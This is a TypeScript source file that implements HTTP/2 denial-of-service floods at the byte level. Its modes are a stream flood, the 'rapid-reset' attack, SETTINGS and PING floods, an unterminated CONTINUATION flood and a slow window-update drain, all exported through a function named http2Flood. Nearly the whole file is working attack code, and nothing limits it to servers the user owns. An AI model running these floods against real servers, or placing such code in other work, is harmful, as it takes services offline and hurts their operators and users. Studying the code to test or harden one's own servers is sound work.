// Poison of HTTP/2, byte by byte (RFC 9113): streams that are reset at once, settings, pings, heads that never end, answers asked for and not taken.
import type { Socket } from "node:net";

const frame = (type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};
const types = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, window: 8, continuation: 9 } as const;
const endStream = 1;
const endHeaders = 4;
const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
/** GET, http, the path in the argument's place, authority "mixed": indexed fields and literals without indexing (RFC 7541 §6). */
const literal = (index: number, value: string): Buffer =>
  Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value)]);
const headOf = (path: string): Buffer =>
  Buffer.concat([Buffer.from([0x82, 0x86]), literal(4, path), literal(1, "mixed")]);
const short = headOf("/");
const u32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const settings = (id: number, value: number): Buffer => Buffer.concat([Buffer.from([0, id]), u32(value)]);

interface Seen {
  refused: number;
  answered: number;
}
type Begin = (socket: Socket, seen: Seen) => (data: Buffer) => void;

/** Sends what `next` gives as fast as it is taken; a little at a time, that all of the flooder's connections have their turns. */
export function pour(socket: Socket, next: () => Buffer): void {
  const more = (): void => {
    for (let i = 0; i < 8 && !socket.destroyed; i++) if (!socket.write(next())) return;
    if (!socket.destroyed) setImmediate(more);
  };
  socket.on("drain", () => setImmediate(more));
  more();
}

/** Streams of a batch, numbered on. */
function batches(count: number, one: (stream: number) => Buffer): () => Buffer {
  let stream = 1;
  return () => {
    const parts: Buffer[] = [];
    for (let i = 0; i < count; i++, stream += 2) parts.push(one(stream));
    return Buffer.concat(parts);
  };
}

const begin: Readonly<Record<string, Begin>> = {
  /** 50 streams at a time, the next when they may have been answered. */
  streams(socket, seen) {
    const next = batches(50, (stream) => frame(types.headers, endStream | endHeaders, stream, short));
    socket.write(Buffer.concat([preface, frame(types.settings, 0, 0), next()]));
    let bytes = 0;
    return (data) => {
      seen.answered++;
      // Windows are kept open, and about as many answers as were asked for are waited for.
      bytes += data.length;
      if (bytes < 50 * 40) return;
      bytes = 0;
      socket.write(Buffer.concat([frame(types.window, 0, 0, u32(65_535)), next()]));
    };
  },
  "rapid-reset"(socket, seen) {
    const next = batches(50, (stream) =>
      Buffer.concat([
        frame(types.headers, endStream | endHeaders, stream, short),
        frame(types.reset, 0, stream, u32(8)),
      ]),
    );
    socket.write(Buffer.concat([preface, frame(types.settings, 0, 0)]));
    pour(socket, next);
    return () => void seen.answered++;
  },
  settings(socket, seen) {
    const some = Buffer.concat(Array.from({ length: 500 }, (_, i) => frame(types.settings, 0, 0, settings(4, 1 + i))));
    socket.write(preface);
    pour(socket, () => some);
    return () => void seen.answered++;
  },
  pings(socket, seen) {
    const some = Buffer.concat(Array.from({ length: 500 }, () => frame(types.ping, 0, 0, Buffer.alloc(8))));
    socket.write(Buffer.concat([preface, frame(types.settings, 0, 0)]));
    pour(socket, () => some);
    return () => void seen.answered++;
  },
  continuation(socket, seen) {
    const some = Buffer.concat(
      Array.from({ length: 100 }, () => frame(types.continuation, 0, 1, literal(0, "x".repeat(100)))),
    );
    socket.write(Buffer.concat([preface, frame(types.settings, 0, 0), frame(types.headers, endStream, 1, short)]));
    pour(socket, () => some);
    return () => void seen.answered++;
  },
  /** Long answers, taken one byte of window at a time. */
  windows(socket, seen) {
    const next = batches(20, (stream) => frame(types.headers, endStream | endHeaders, stream, headOf("/long")));
    socket.write(Buffer.concat([preface, frame(types.settings, 0, 0, settings(4, 1)), next()]));
    const one = Buffer.concat(Array.from({ length: 20 }, (_, i) => frame(types.window, 0, 2 * i + 1, u32(1))));
    const timer = setInterval(() => socket.write(one), 5);
    socket.once("close", () => clearInterval(timer));
    return () => void seen.answered++;
  },
};

/** @throws Error for a kind that nobody knows */
export function http2Flood(kind: string): Begin {
  const known = begin[kind];
  if (known === undefined) throw new Error(`no such flood: ${kind}; there are: ${Object.keys(begin).join(", ")}`);
  return known;
}
